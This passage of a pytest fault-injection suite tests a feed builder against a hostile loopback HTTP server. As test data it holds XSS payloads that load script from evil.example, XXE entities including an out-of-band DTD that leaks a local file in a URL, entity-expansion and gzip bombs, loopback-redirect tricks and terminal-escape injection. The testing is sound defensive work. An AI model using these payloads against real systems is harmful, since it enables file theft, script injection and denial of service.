"""Fault injection: one hostile HTTP server on 127.0.0.1 whose paths each
misbehave in one way (silence, trickles, resets, endless and huge bodies,
gzip bombs, error statuses, redirect loops and redirects to loopback in many
spellings, XML entity attacks, broken XML, hostile HTML in items), and a
real `python -m feeds build` against each of them next to a healthy source.

Every case asserts that the build:

- ends within the bad source's time-out plus MARGIN seconds (interpreter
  start, imports, storing and rendering included);
- exits 1 naming the bad source with a reason a person understands, or 0
  when the answer is recoverable and its items were read safely;
- still publishes the healthy source's items in all.atom (feedparser, bozo 0);
- stays under PEAK_RSS_MB of peak resident memory (the build's own VmHWM);
- never connects anywhere but loopback: the build runs with a
  `sitecustomize` that refuses (and logs) any other connect, the same rule
  as conftest's `_loopback_only`, which only guards this process.

The hostile-items cases then parse every output file and look for anything
executable (script, iframe, object, embed, style, meta refresh, on*
attributes, javascript:/vbscript:/data: URLs).
"""

from __future__ import annotations

import contextlib
import gzip
import html
import ipaddress
import json
import os
import re
import select
import socket
import struct
import subprocess
import sys
import threading
import time
import uuid
import xml.etree.ElementTree as ET
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from html.parser import HTMLParser
from pathlib import Path

import feedparser
import pytest

from .conftest import BASE_CONFIG, ROOT, write_config

#: Time-out of the bad source, in seconds (the healthy one gets HEALTHY_TIMEOUT).
TIMEOUT = 2.0
HEALTHY_TIMEOUT = 5.0
#: Allowed on top of the bad source's time-out for the whole build: Python's
#: start and imports (~0.7 s here), storing, rendering and publishing.
MARGIN = 5.0
#: A build still running this long after its limit is killed (and fails).
HARD_EXTRA = 3.0
#: Peak RSS of the build process. A healthy two-source build measures
#: 46-51 MB here; this leaves room without letting a blow-up through.
PEAK_RSS_MB = 200
#: Server side, no misbehaviour lasts longer than this (or the client leaving).
SERVER_BOUND = 60.0

PUB = "Mon, 23 Nov 2026 10:00:00 +0300"


# --------------------------------------------------------------------------
# Documents


def rss(*items: str, title: str = "Feed") -> bytes:
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">'
        f"<channel><title>{title}</title><link>http://bad.example/</link>"
        "<description>d</description>\n" + "\n".join(items) + "\n</channel></rss>\n"
    ).encode("utf-8")


def item(title: str, link: str, description: str = "", extra: str = "") -> str:
    body = f"<description>{description}</description>" if description else ""
    return (
        f"<item><title>{title}</title><link>{link}</link>{body}{extra}"
        f"<pubDate>{PUB}</pubDate></item>"
    )


HEALTHY_TITLES = ("Healthy item one", "Healthy item two")
HEALTHY = rss(
    item(HEALTHY_TITLES[0], "http://healthy.example/1", "First healthy lead"),
    item(HEALTHY_TITLES[1], "http://healthy.example/2", "Second healthy lead"),
    title="Healthy",
)
# What the misbehaving paths pretend to send.
BAD_FEED = rss(
    item("Bad item one", "http://bad.example/1", "x" * 200),
    item("Bad item two", "http://bad.example/2", "y" * 200),
)


def with_doctype(doctype: str, *items: str) -> bytes:
    """An RSS document with an internal DTD subset before its root."""
    body = rss(*items).decode("utf-8").split("\n", 1)[1]
    return ('<?xml version="1.0"?>\n<!DOCTYPE rss [\n' + doctype + "\n]>\n" + body).encode()


def billion_laughs() -> bytes:
    """Ten levels of ten references each: 10^9 "lol"s from 1 KB."""
    lines = ['<!ENTITY lol "lol">', '<!ENTITY lol1 "' + "&lol;" * 10 + '">']
    lines += [f'<!ENTITY lol{n} "' + f"&lol{n - 1};" * 10 + '">' for n in range(2, 10)]
    return with_doctype(
        "\n".join(lines),
        item("Laughing &lol9;", "http://bad.example/laugh", "&lol9;"),
        item("Laugh-free item", "http://bad.example/plain", "plain"),
    )


def quadratic_blowup() -> bytes:
    """One 10 KB entity referenced 10 000 times: 40 KB that expand to 100 MB."""
    return with_doctype(
        '<!ENTITY a "' + "x" * 10_000 + '">',
        item("Quadratic", "http://bad.example/q", "&a;" * 10_000),
        item("Blow-up-free item", "http://bad.example/plain", "plain"),
    )


def after_a_long_prolog(body: bytes) -> bytes:
    """The document with 70 KB of comment before its DOCTYPE: past where
    a check of the document's first bytes looks."""
    declaration = b'<?xml version="1.0"?>\n'
    return body.replace(declaration, declaration + b"<!-- " + b"p" * 70_000 + b" -->\n", 1)


def xxe(secret: Path) -> bytes:
    return with_doctype(
        f'<!ENTITY xxe SYSTEM "{secret.as_uri()}">',
        item("Secret &xxe;", "http://bad.example/xxe", "&xxe;"),
        item("XXE-free item", "http://bad.example/plain", "plain"),
    )


def xxe_out_of_band(other: str, secret: Path) -> bytes:
    """A parameter entity pulls a DTD from another port, which would send
    the secret file back in a URL."""
    return with_doctype(
        f'<!ENTITY % file SYSTEM "{secret.as_uri()}">\n'
        f'<!ENTITY % dtd SYSTEM "{other}/evil.dtd">\n%dtd;',
        item("Out of band &send;", "http://bad.example/oob", "&send;"),
        item("OOB-free item", "http://bad.example/plain", "plain"),
    )


UNESCAPED_AMP = rss(
    item("Salt & pepper", "http://bad.example/amp1", "Fish & chips"),
    item("Rock & roll", "http://bad.example/amp2?a=1&b=2", "Tom & Jerry"),
)
_FULL = rss(
    item("Whole item one", "http://bad.example/t1", "complete"),
    item("Whole item two", "http://bad.example/t2", "complete"),
    item("Cut item three", "http://bad.example/t3", "this one is cut " * 20),
)
TRUNCATED = _FULL[: _FULL.index(b"this one is cut") + 30]
INVALID_UTF8 = rss(
    item("Broken bytes \xff one", "http://bad.example/u1", "lead"),
    item("Broken bytes two", "http://bad.example/u2", "lead"),
).replace("\xff".encode(), b"\xff\xfe\xc3\x28")
#: Character references to no character (a lone surrogate, past U+10FFFF)
#: in a document that is not well-formed, so feedparser's forgiving parser
#: reads it.
BAD_CHAR_REFS = rss(
    item("Surrogate &#xD800; reference", "http://bad.example/r1", "lead &#55296; &#x110000;"),
    item("Huge &#99999999999999999999; reference", "http://bad.example/r2", "lead"),
    item("References two", "http://bad.example/r3", "lead"),
)
#: Links and guids carrying characters XML cannot hold (C0 controls as
#: references, lone surrogates as JSON escapes): stored, they must not
#: stop every later feed from being written.
CONTROL_LINKS = rss(
    item("Control in link", "http://bad.example/a&#1;b", "lead"),
    item(
        "Control in guid", "http://bad.example/g", "lead", "<guid>http://bad.example/i&#2;d</guid>"
    ),
    item("Control in plain guid", "http://bad.example/p", "lead", "<guid>plain&#3;guid</guid>"),
    item("Control-free item", "http://bad.example/free", "lead"),
)
UNWRITABLE_JSON = json.dumps(
    {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "JSON",
        "items": [
            {"id": "lone\ud800", "url": "http://bad.example/j1", "title": "Lone guid"},
            {"id": "http://bad.example/\udfff", "title": "Lone URI guid"},
            {"url": "http://bad.example/\ud800x", "title": "Lone link"},
            {"id": "j4", "url": "http://bad.example/a\u0001b", "title": "JSON control link"},
            {"id": "http://bad.example/i\ufffe", "title": "Non-character guid"},
            {
                "id": "j6",
                "url": "http://bad.example/j6",
                "image": "http://bad.example/i\u0002.png",
                "title": "Control in image",
            },
            {"id": "j7", "url": "http://bad.example/j7", "title": "JSON clean item"},
        ],
    }
).encode()
#: What fuzzing found raising out of a build (a traceback, exit 1, nothing
#: published): each now costs at most its own field, or its own item.
ODD_VALUE_ITEMS = (
    item("Port out of range", "http://bad.example:99999/1", "lead"),
    item("Port not a number", "http://bad.example:abc/2", "lead"),
    item("Unclosed bracket", "http://[bad.example/3", "lead"),
    item(
        "Bracket picture",
        "http://bad.example/4",
        "lead",
        '<enclosure url="http://[bad.example/p.jpg" length="1" type="image/jpeg"/>',
    ),
    item(
        "Huge length",
        "http://bad.example/5",
        "lead",
        '<enclosure url="http://bad.example/5.jpg" length="99999999999999999999" '
        'type="image/jpeg"/>',
    ),
    item(
        "Long length",
        "http://bad.example/6",
        "lead",
        f'<enclosure url="http://bad.example/6.jpg" length="{"7" * 5000}" type="image/jpeg"/>',
    ),
    item(
        "Superscript length",
        "http://bad.example/7",
        "lead",
        '<enclosure url="http://bad.example/7.jpg" length="²" type="image/jpeg"/>',
    ),
    item("Odd-value-free item", "http://bad.example/8", "lead"),
)
ODD_VALUE_TITLES = tuple(
    title.split("</title>")[0] for title in "".join(ODD_VALUE_ITEMS).split("<title>")[1:]
)
ODD_VALUES = rss(*ODD_VALUE_ITEMS)
#: The same, with a DOCTYPE: feedparser reads it, not the fast path. And
#: a date that is year 10,000 once in UTC, and a picture whose type holds
#: a control character (which feedparser's forgiving parser takes).
ODD_VALUES_FEEDPARSER = rss(
    *ODD_VALUE_ITEMS,
    item("Calendar end", "http://bad.example/9", "lead").replace(
        PUB, "9999-12-31T23:59:59-12:00Zx"
    ),
    item(
        "Control in picture type",
        "http://bad.example/10",
        "lead",
        '<enclosure url="http://bad.example/10" length="1" type="image/\x01x"/>',
    ),
).replace(b"<rss ", b"<!DOCTYPE rss>\n<rss ")
#: Shift_JIS, said only by the XML declaration: expat cannot read it.
SHIFT_JIS = (
    '<?xml version="1.0" encoding="Shift_JIS"?>\n<rss version="2.0"><channel><title>J</title>'
    "<link>http://bad.example/</link><description>d</description>"
    + item("日本のニュース", "http://bad.example/sjis", "リード")
    + "</channel></rss>"
).encode("shift_jis")
#: 120,000 nested blocks: cleaning them took nh3 minutes (n² in depth).
DEEP_DIVS = rss(
    item("Deep blocks", "http://bad.example/deep", "&lt;div&gt;" * 120_000 + "deep text"),
    item("Shallow item", "http://bad.example/shallow", "lead"),
)
HUGE_JSON_NUMBER = (
    b'{"version": "https://jsonfeed.org/version/1.1", "title": "J", "items": [{"id": '
    + b"1" * 5000
    + b', "title": "Huge number"}]}'
)
BRACKET_JSON = json.dumps(
    {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "JSON",
        "home_page_url": "http://[bad.example/",
        "items": [
            {"id": "b1", "url": "http://[bad.example/1", "title": "JSON bracket link"},
            {
                "id": "b2",
                "url": "http://bad.example/2",
                "image": "http://[bad.example/i.png",
                "title": "JSON bracket image",
            },
            {"id": "b3", "url": "http://bad.example:99999/3", "title": "JSON bad port"},
        ],
    }
).encode()
HTML_PAGE = (
    b"<!DOCTYPE html><html><head><title>Welcome</title></head>"
    b"<body><h1>Our news</h1><p>No feed here.</p></body></html>"
)

# --- hostile items ----------------------------------------------------------

#: Text every hostile case keeps: the sanitiser must not drop everything.
KEPT = "kept paragraph"
XSS_BITS = [
    "<script>alert('s1')</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('e1')>",
    "<body onload=alert('l1')>",
    '<a onclick="alert(\'c1\')" href="http://ok.example/">click</a>',
    "<a href=\"javascript:alert('j1')\">j</a>",
    "<a href=\"JaVaScRiPt:%20alert('j2')\">J</a>",
    "<a href=\" javascript:alert('j3')\">space</a>",
    "<a href=\"jav&#x09;ascript:alert('j4')\">tab</a>",
    "<a href=\"&#106;avascript:alert('j5')\">entity</a>",
    "<a href=\"vbscript:msgbox('v1')\">vb</a>",
    "<a href=\"data:text/html,&lt;script&gt;alert('d1')&lt;/script&gt;\">data</a>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg onload=alert('g1')><circle r=1 /></svg>",
    "<svg><script>alert('g2')</script></svg>",
    "<math><mi xlink:href=\"javascript:alert('m1')\">m</mi></math>",
    '<iframe src="http://evil.example/"></iframe>',
    '<object data="http://evil.example/x.swf"></object>',
    '<embed src="http://evil.example/x.swf">',
    "<style>body{background:url(javascript:alert('st'))}</style>",
    "<p style=\"background:url(javascript:alert('sa'))\">styled</p>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'r1\')">',
    "<base href=\"javascript:alert('b1')//\">",
    "<form action=\"javascript:alert('f1')\"><button formaction=\"javascript:alert('f2')\">"
    "go</button></form>",
    '<link rel=stylesheet href="http://evil.example/x.css">',
    "<div><p>" + KEPT + "</p></div>",
]
XSS_HTML = "".join(XSS_BITS)


def cdata(text: str) -> str:
    return "<![CDATA[" + text.replace("]]>", "]]]]><![CDATA[>") + "]]>"


HOSTILE_RSS = rss(
    item(cdata("<script>alert('t1')</script>Script title"), "http://ok.example/1", cdata(XSS_HTML)),
    item(
        "&lt;script&gt;alert('t2')&lt;/script&gt;Entity title",
        "http://ok.example/2",
        html.escape(XSS_HTML),
    ),
    item(
        "&lt;img src=x onerror=alert('t3')&gt;Img title",
        "javascript:alert('link1')",
        "&lt;p&gt;" + KEPT + "&lt;/p&gt;",
    ),
    item(
        "Data link",
        "data:text/html,<b>x</b>",
        "&lt;p&gt;" + KEPT + "&lt;/p&gt;",
        extra="<guid>javascript:alert('guid1')</guid>",
    ),
    # Character references to characters no feed can carry: cleaning
    # turns them into the characters, and one such item made every feed
    # listing it fail to render (the build exited with a traceback). Nor
    # may dropping one join a scheme back together.
    item(
        "Control references",
        "http://ok.example/7",
        cdata(
            "<p>" + KEPT + " a&#1;b&#x85;c&#xFFFF;d&#127;</p>"
            "<a href=\"java&#1;script:alert('ctl1')\">ctl</a>"
            "<a href=\"java&#x0B;script:alert('ctl2')\">ctl</a>"
        ),
    ),
    # ]]> inside CDATA, split so that joining the parts gives a script.
    item(
        "CDATA split",
        "http://ok.example/5",
        "<![CDATA[<p>" + KEPT + "</p><scr]]><![CDATA[ipt>alert('cd1')</scr]]><![CDATA[ipt>]]>",
    ),
    # Nested CDATA: the first ]]> ends it, the rest is bad XML.
    item(
        "CDATA nested",
        "http://ok.example/6",
        "<![CDATA[<p>" + KEPT + "</p><![CDATA[<script>alert('cd2')</script>]]>]]>",
    ),
    item(
        "Content encoded",
        "http://ok.example/7",
        "&lt;p&gt;" + KEPT + "&lt;/p&gt;",
        extra="<content:encoded>" + cdata(XSS_HTML) + "</content:encoded>"
        "<author>x@example.org (&lt;script&gt;alert('a1')&lt;/script&gt;)</author>",
    ),
    title="Hostile &lt;script&gt;alert('feed')&lt;/script&gt;",
)

HOSTILE_ATOM = (
    '<?xml version="1.0" encoding="utf-8"?>\n'
    '<feed xmlns="http://www.w3.org/2005/Atom" xml:base="javascript:alert(\'base\')//">'
    "<title>Hostile atom</title><id>urn:x:hostile</id><updated>2026-11-23T10:00:00Z</updated>"
    "<entry><id>urn:x:a1</id><updated>2026-11-23T10:00:00Z</updated>"
    "<title type=\"html\">&lt;img src=x onerror=alert('at1')&gt;Atom html title</title>"
    "<link href=\"javascript:alert('al1')\"/>"
    '<summary type="html">' + html.escape(XSS_HTML) + "</summary>"
    '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">'
    "<script>alert('ax1')</script><a href=\"javascript:alert('ax2')\">x</a>"
    '<img src="x" onerror="alert(\'ax3\')"/><a href="relative/path">rel</a>'
    "<p>" + KEPT + "</p></div></content></entry>"
    "<entry><id>urn:x:a2</id><updated>2026-11-23T10:00:00Z</updated>"
    "<title type=\"text\">&lt;script&gt;alert('at2')&lt;/script&gt;Atom text title</title>"
    '<link href="relative/entry"/>'
    '<content type="html">' + html.escape(XSS_HTML) + "</content></entry>"
    "</feed>\n"
).encode("utf-8")

HOSTILE_JSON = json.dumps(
    {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "Hostile json",
        "home_page_url": "javascript:alert('home')",
        "items": [
            {
                "id": "j1",
                "url": "javascript:alert('ju1')",
                "title": "<img src=x onerror=alert('jt1')>JSON title",
                "content_html": XSS_HTML,
                "summary": "<script>alert('js1')</script>summary",
                "date_published": "2026-11-23T10:00:00+03:00",
                "authors": [{"name": "<script>alert('ja1')</script>"}],
            },
            {
                "id": "j2",
                "external_url": "data:text/html,<script>alert('ju2')</script>",
                "title": "JSON second",
                "content_text": "<script>alert('jc2')</script> as text",
                "date_published": "2026-11-23T10:00:00+03:00",
            },
        ],
    }
).encode("utf-8")


def gzip_bomb() -> bytes:
    """~4 MB of gzip that inflates to 4 GiB of zeros: one 64 MiB member,
    compressed once in a streaming way, repeated 64 times (concatenated gzip
    members are one valid gzip stream)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(1 << 20)
    member = b"".join(packer.compress(zeros) for _ in range(64)) + packer.flush()
    return member * 64


# --------------------------------------------------------------------------
# The hostile server


Handler = Callable[["Conn"], None]


@dataclass
class Conn:
    """One accepted connection and the server it belongs to."""

    sock: socket.socket
    path: str
    server: HostileServer

    def send(self, data: bytes) -> bool:
        """False when the client has gone (or the server stops)."""
        if self.server.stopped.is_set():
            return False
        try:
            self.sock.sendall(data)
        except OSError:
            return False
        return True

    def wait_gone(self, seconds: float) -> bool:
        """Wait up to `seconds`; True as soon as the client closed (or the
        server stops), False when the time is up with the client still there."""
        end = time.monotonic() + seconds
        while (left := end - time.monotonic()) > 0:
            if self.server.stopped.is_set():
                return True
            readable, _, _ = select.select([self.sock], [], [], min(0.2, left))
            if readable:
                try:
                    if not self.sock.recv(4096):
                        return True
                except OSError:
                    return True
        return False

    def answer(self, status: str, body: bytes = b"", **headers: str) -> None:
        head = [f"HTTP/1.1 {status}"]
        head += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
        if "Content_Length" not in headers and "Transfer_Encoding" not in headers:
            head.append(f"Content-Length: {len(body)}")
        head.append("Connection: close")
        self.send(("\r\n".join(head) + "\r\n\r\n").encode("latin-1") + body)

    def redirect(self, location: str, status: str = "302 Found") -> None:
        self.answer(status, b"", Location=location)


@dataclass
class HostileServer:
    """A threaded raw-socket HTTP server on loopback. Every handler loop is
    bounded by SERVER_BOUND and ends when the client leaves or on stop()."""

    routes: dict[str, Handler]
    hosts: tuple[str, ...] = ("127.0.0.1",)
    port: int = 0
    stopped: threading.Event = field(default_factory=threading.Event)
    hits: list[str] = field(default_factory=list)
    _listeners: list[socket.socket] = field(default_factory=list)
    _threads: list[threading.Thread] = field(default_factory=list)
    _open: set[socket.socket] = field(default_factory=set)
    _lock: threading.Lock = field(default_factory=threading.Lock)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def start(self) -> HostileServer:
        for host in self.hosts:
            family = socket.AF_INET6 if ":" in host else socket.AF_INET
            listener = socket.socket(family, socket.SOCK_STREAM)
            try:
                if family == socket.AF_INET6:
                    listener.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
                listener.bind((host, self.port))
            except OSError:
                listener.close()
                if not self._listeners:
                    raise
                continue  # e.g. no IPv6 loopback: serve IPv4 only
            listener.listen(64)
            listener.settimeout(0.2)
            self.port = listener.getsockname()[1]
            self._listeners.append(listener)
            self._spawn(self._accept, listener)
        return self

    @property
    def ipv6(self) -> bool:
        return any(listener.family == socket.AF_INET6 for listener in self._listeners)

    def hit_count(self, path: str) -> int:
        with self._lock:
            return sum(1 for seen in self.hits if seen == path)

    def stop(self) -> None:
        self.stopped.set()
        with self._lock:
            for sock in list(self._open):
                with contextlib.suppress(OSError):
                    sock.shutdown(socket.SHUT_RDWR)
        for thread in list(self._threads):
            thread.join(timeout=5)
        for listener in self._listeners:
            listener.close()
        alive = [t.name for t in self._threads if t.is_alive()]
        assert not alive, f"server threads still running: {alive}"

    def _spawn(self, target: Callable[..., None], *args: object) -> None:
        thread = threading.Thread(target=target, args=args, daemon=True)
        with self._lock:
            self._threads = [t for t in self._threads if t.is_alive()]
            self._threads.append(thread)
        thread.start()

    def _accept(self, listener: socket.socket) -> None:
        while not self.stopped.is_set():
            try:
                sock, _ = listener.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with self._lock:
                self._open.add(sock)
            self._spawn(self._serve, sock)

    def _serve(self, sock: socket.socket) -> None:
        try:
            sock.settimeout(10)
            head = b""
            deadline = time.monotonic() + 10
            while b"\r\n\r\n" not in head and time.monotonic() < deadline:
                chunk = sock.recv(4096)
                if not chunk:
                    return
                head += chunk
            path = head.split(b" ", 2)[1].decode("latin-1") if head.count(b" ") >= 2 else "/"
            with self._lock:
                self.hits.append(path)
            handler = self.routes.get(path)
            conn = Conn(sock, path, self)
            if handler is None:
                conn.answer("404 Not Found", b"no such path")
            else:
                handler(conn)
        except OSError:
            pass
        finally:
            with self._lock:
                self._open.discard(sock)
            with contextlib.suppress(OSError):
                sock.close()


# --- misbehaviours ----------------------------------------------------------


def static(
    body: bytes,
    content_type: str = "application/rss+xml; charset=utf-8",
    status: str = "200 OK",
    **headers: str,
) -> Handler:
    def handle(conn: Conn) -> None:
        conn.answer(status, body, Content_Type=content_type, **headers)

    return handle


def silent(conn: Conn) -> None:
    conn.wait_gone(SERVER_BOUND)


def late(conn: Conn) -> None:
    if not conn.wait_gone(TIMEOUT + 1.5):
        static(BAD_FEED)(conn)


def trickle(conn: Conn) -> None:
    head = (
        "HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\n"
        f"Content-Length: {len(BAD_FEED)}\r\nConnection: close\r\n\r\n"
    ).encode()
    if not conn.send(head):
        return
    end = time.monotonic() + SERVER_BOUND
    for index in range(len(BAD_FEED)):
        if time.monotonic() > end or not conn.send(BAD_FEED[index : index + 1]):
            return
        if conn.wait_gone(1.0):
            return


def stall(conn: Conn) -> None:
    """Half a body of no stated length (it ends when the connection
    closes), then silence: cut at the deadline, it must not pass for whole."""
    head = b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nConnection: close\r\n\r\n"
    if conn.send(head + BAD_FEED[: len(BAD_FEED) // 2]):
        conn.wait_gone(SERVER_BOUND)


def trickle_headers(conn: Conn) -> None:
    """The status line and headers, one byte a second, never finished."""
    head = b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nX-Slow: " + b"a" * 10_000
    end = time.monotonic() + SERVER_BOUND
    for index in range(len(head)):
        if time.monotonic() > end or not conn.send(head[index : index + 1]):
            return
        if conn.wait_gone(1.0):
            return


def reset(conn: Conn) -> None:
    half = BAD_FEED[: len(BAD_FEED) // 2]
    head = (
        "HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\n"
        f"Content-Length: {len(BAD_FEED)}\r\n\r\n"
    ).encode()
    if conn.send(head + half):
        time.sleep(0.2)
        conn.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        # the caller's close() now sends RST instead of FIN


def short(conn: Conn) -> None:
    """Content-Length promises more than comes; then a clean close (FIN)."""
    half = BAD_FEED[: len(BAD_FEED) // 2]
    conn.answer(
        "200 OK", half, Content_Type="application/rss+xml", Content_Length=str(len(BAD_FEED))
    )


def hang_up(conn: Conn) -> None:
    """Reads the request and closes the connection without a word."""


def cut_gzip(conn: Conn) -> None:
    """A gzip body without a length, cut two thirds of the way in by a
    clean close: only the missing gzip trailer tells it is not whole."""
    packed = gzip.compress(BAD_FEED)
    head = (
        b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\n"
        b"Content-Encoding: gzip\r\nConnection: close\r\n\r\n"
    )
    conn.send(head + packed[: len(packed) * 2 // 3])


def endless(conn: Conn) -> None:
    head = (
        b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n"
    )

    def chunk(data: bytes) -> bytes:
        return f"{len(data):x}\r\n".encode() + data + b"\r\n"

    if not conn.send(head + chunk(b'<?xml version="1.0"?><rss version="2.0"><channel>')):
        return
    piece = chunk(b"<item><title>again</title><link>http://bad.example/e</link></item>" * 60)
    end = time.monotonic() + SERVER_BOUND
    # ~4 KB every 50 ms: 80 KB/s, far below max_bytes within the time-out.
    while time.monotonic() < end:
        if not conn.send(piece) or conn.wait_gone(0.05):
            return


def huge_length(conn: Conn) -> None:
    head = (
        b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\n"
        b"Content-Length: 10000000000\r\n\r\n"
    )
    if conn.send(head + BAD_FEED[:100]):
        conn.wait_gone(SERVER_BOUND)


def cut_headers(conn: Conn) -> None:
    """A connection closed in the middle of the headers: http.client takes
    the end for the end of the headers, and the answer for a whole 200
    with an empty body."""
    conn.send(b"HTTP/1.1 200 OK\r\nContent-Type: application/rs")


def early_hints(conn: Conn) -> None:
    """An interim 103 Early Hints before the answer (RFC 8297)."""
    if conn.send(b"HTTP/1.1 103 Early Hints\r\nLink: </style.css>; rel=preload\r\n\r\n"):
        conn.answer("200 OK", BAD_FEED, Content_Type="application/rss+xml")


def empty_gzip(conn: Conn) -> None:
    """A gzip stream of nothing, with no length: the connection's close
    ends it."""
    head = (
        b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\n"
        b"Content-Encoding: gzip\r\nConnection: close\r\n\r\n"
    )
    conn.send(head + gzip.compress(b""))


def header_without_colon(conn: Conn) -> None:
    head = (
        "HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nthis line has no colon\r\n"
        f"Content-Length: {len(BAD_FEED)}\r\nConnection: close\r\n\r\n"
    )
    conn.send(head.encode() + BAD_FEED)


def make_gzip_bomb_handler(bomb: bytes) -> Handler:
    def handle(conn: Conn) -> None:
        conn.answer("200 OK", bomb, Content_Type="application/rss+xml", Content_Encoding="gzip")

    return handle


def redirect_to(location: str, delay: float = 0.0) -> Handler:
    def handle(conn: Conn) -> None:
        if delay and conn.wait_gone(delay):
            return
        conn.redirect(location)

    return handle


# --------------------------------------------------------------------------
# Fixtures


@dataclass
class Bed:
    hostile: HostileServer
    other: HostileServer
    secret: Path
    marker: str
    site: Path
    closed_port: int


SITECUSTOMIZE = '''\
"""Test harness: the build may connect to loopback only (like conftest's
_loopback_only). Any other connect is refused before it happens and logged."""
import ipaddress, os, socket

_real_connect = socket.socket.connect
_log = os.environ.get("HOSTILE_CONNECT_LOG", "")


def _loopback(host):
    try:
        address = ipaddress.ip_address(host.split("%", 1)[0])
    except ValueError:
        return False
    mapped = getattr(address, "ipv4_mapped", None)
    return (mapped or address).is_loopback


def _guarded(self, address):
    if isinstance(address, tuple) and self.family in (socket.AF_INET, socket.AF_INET6):
        host = str(address[0])
        if not _loopback(host):
            if _log:
                with open(_log, "a", encoding="utf-8") as out:
                    out.write(f"{host} {address[1]}\\n")
            raise ConnectionRefusedError(111, f"test harness: {host} is not loopback")
    return _real_connect(self, address)


socket.socket.connect = _guarded


def _report_peak():
    # The process's own high-water mark. os.wait4's ru_maxrss is no good
    # here: at exec, Linux records the RSS of the mm the child borrowed from
    # pytest through vfork, so every build would show pytest's size.
    target = os.environ.get("HOSTILE_PEAK_LOG", "")
    if not target:
        return
    with open("/proc/self/status", encoding="ascii") as status:
        for line in status:
            if line.startswith("VmHWM:"):
                with open(target, "w", encoding="ascii") as out:
                    out.write(line.split()[1])


import atexit

atexit.register(_report_peak)
'''


@pytest.fixture(scope="module")
def bed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Bed]:
    base = tmp_path_factory.mktemp("hostile")
    marker = f"XXE-MARKER-{uuid.uuid4().hex}"
    secret = base / "secret.txt"
    secret.write_text(f"{marker}\n", encoding="utf-8")
    site = base / "site"
    site.mkdir()
    (site / "sitecustomize.py").write_text(SITECUSTOMIZE, encoding="utf-8")

    # The second server: another loopback port, never listed in allow_private.
    other = HostileServer(routes={}, hosts=("127.0.0.1", "::1")).start()
    other.routes.update(
        {
            "/ok": static(rss(item("Other port item", "http://other.example/1"))),
            "/evil.dtd": static(
                f"<!ENTITY % all \"<!ENTITY send SYSTEM '{other.url}/leak?%file;'>\">"
                "%all;".encode(),
                "application/xml-dtd",
            ),
        }
    )
    port = other.port
    routes: dict[str, Handler] = {
        "/ok": static(HEALTHY),
        "/silent": silent,
        "/late": late,
        "/trickle": trickle,
        "/stall": stall,
        "/trickle-headers": trickle_headers,
        "/reset": reset,
        "/short": short,
        "/hang-up": hang_up,
        "/cut-gzip": cut_gzip,
        "/endless": endless,
        "/huge-length": huge_length,
        "/gzip-bomb": make_gzip_bomb_handler(gzip_bomb()),
        "/cut-headers": cut_headers,
        "/early-hints": early_hints,
        "/header-without-colon": header_without_colon,
        # Values a server controls that the standard library cannot take.
        "/max-age-huge": static(BAD_FEED, Cache_Control="max-age=999999999999"),
        "/max-age-5000-digits": static(BAD_FEED, Cache_Control="max-age=" + "9" * 5000),
        "/expires-9999": static(BAD_FEED, Expires="Fri, 31 Dec 9999 23:59:59 -2359"),
        "/length-superscript": static(BAD_FEED, Content_Length="\u00b2"),
        "/length-5000-digits": static(BAD_FEED, Content_Length="9" * 5000),
        "/length-leading-zeros": static(BAD_FEED, Content_Length="0" * 20 + str(len(BAD_FEED))),
        "/empty-gzip": empty_gzip,
        "/charset-nul": static(BAD_FEED, 'application/rss+xml; charset="utf-8\x00"'),
        "/charset-rot13": static(BAD_FEED, "application/rss+xml; charset=rot13"),
        "/503-superscript": static(
            b"busy", "text/plain", "503 Service Unavailable", Retry_After="\u00b2"
        ),
        "/to-unreadable": redirect_to("http://[::1"),
        "/to-bracketed-ipv4": redirect_to("http://[127.0.0.1]/"),
        "/500": static(b"oops", "text/plain", "500 Internal Server Error"),
        # A reason phrase of terminal escapes: retitle the window, clear it.
        "/500-escapes": static(b"oops", "text/plain", "500 \x1b]0;owned\x07\x1b[2JCleared"),
        "/moved-escapes": static(b"", "text/plain", "301 Moved Permanently", Location="/\x1b[2Jok"),
        "/503": static(b"busy", "text/plain", "503 Service Unavailable", Retry_After="120"),
        "/429": static(b"slow down", "text/plain", "429 Too Many Requests", Retry_After="60"),
        "/429-year": static(
            b"go away", "text/plain", "429 Too Many Requests", Retry_After="31536000"
        ),
        "/429-endless": static(
            b"go away", "text/plain", "429 Too Many Requests", Retry_After="9" * 5000
        ),
        "/loop": redirect_to("/loop"),
        "/to-localhost": redirect_to(f"http://localhost:{port}/ok"),
        "/to-ipv6-loopback": redirect_to(f"http://[::1]:{port}/ok"),
        "/to-ipv4-mapped": redirect_to(f"http://[::ffff:127.0.0.1]:{port}/ok"),
        "/to-decimal": redirect_to(f"http://2130706433:{port}/ok"),
        "/to-hex": redirect_to(f"http://0x7f000001:{port}/ok"),
